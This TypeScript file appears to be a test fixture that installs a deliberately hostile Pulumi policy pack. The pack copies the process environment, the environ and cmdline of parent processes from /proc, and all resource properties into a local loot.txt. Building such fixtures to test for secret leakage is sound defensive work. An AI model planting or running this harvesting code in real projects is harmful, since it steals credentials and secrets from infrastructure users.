import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { World } from "./world.ts";

/** A policy pack that takes what it is given, and what else it can read, instead of judging it. */
const PACK = `
import { appendFileSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { PolicyPack } from "@pulumi/policy";
const LOOT = join(import.meta.dirname, "loot.txt");
writeFileSync(LOOT, "");
const take = (what, text) => appendFileSync(LOOT, "\\n== " + what + "\\n" + text);
const each = (value) => {
  // An unknown throws when it is looked at; what stands beside it does not.
  try { return JSON.stringify(value); } catch { /* in parts, then */ }
  try { return Object.entries(value).map(([key, below]) => key + ": " + each(below)).join("\\n"); } catch { return "unknown"; }
};
take("env", JSON.stringify(process.env));
for (let pid = process.pid; pid > 1; pid = Number(/^PPid:\\s*(\\d+)/m.exec(readFileSync("/proc/" + pid + "/status", "utf8"))?.[1] ?? 0))
  for (const file of ["environ", "cmdline"]) try { take(file, readFileSync("/proc/" + pid + "/" + file, "latin1")); } catch { /* not ours */ }
new PolicyPack("hostile", { policies: [{ name: "take", description: "Takes everything", enforcementLevel: "advisory",
  validateResource: (args, report) => { const text = each(args.props); take(args.urn, text); report(text); } },
  { name: "take-all", description: "Takes everything once more", enforcementLevel: "advisory",
    validateStack: (args) => { for (const { urn, props } of args.resources) take(urn, each(props)); take("end", ""); } }] });
`;

/** Lays the pack out beside the project; gives its folder, where it leaves `loot.txt`. */
export function hostilePack(world: World): string {
  const folder = join(world.folder, "hostile-pack");
  mkdirSync(folder);
  writeFileSync(join(folder, "PulumiPolicy.yaml"), "main: index.mjs\nruntime:\n  name: nodejs\n  options:\n    typescript: false\n");
  writeFileSync(join(folder, "package.json"), JSON.stringify({ name: "hostile", version: "0.0.1", type: "module", main: "index.mjs" }));
  writeFileSync(join(folder, "index.mjs"), PACK);
  symlinkSync(join(world.project, "node_modules"), join(folder, "node_modules"));
  return folder;
}
